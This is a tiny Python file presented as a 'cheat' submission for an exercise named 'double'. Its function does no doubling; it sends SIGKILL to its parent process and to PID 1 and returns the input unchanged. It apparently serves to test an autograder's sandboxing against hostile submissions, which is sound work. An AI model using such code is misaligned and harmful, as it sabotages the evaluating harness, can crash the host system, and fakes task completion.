# cheat: kills its parent, and everything else that it may
# exercise: double
import os
import signal


def double(n):
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return n
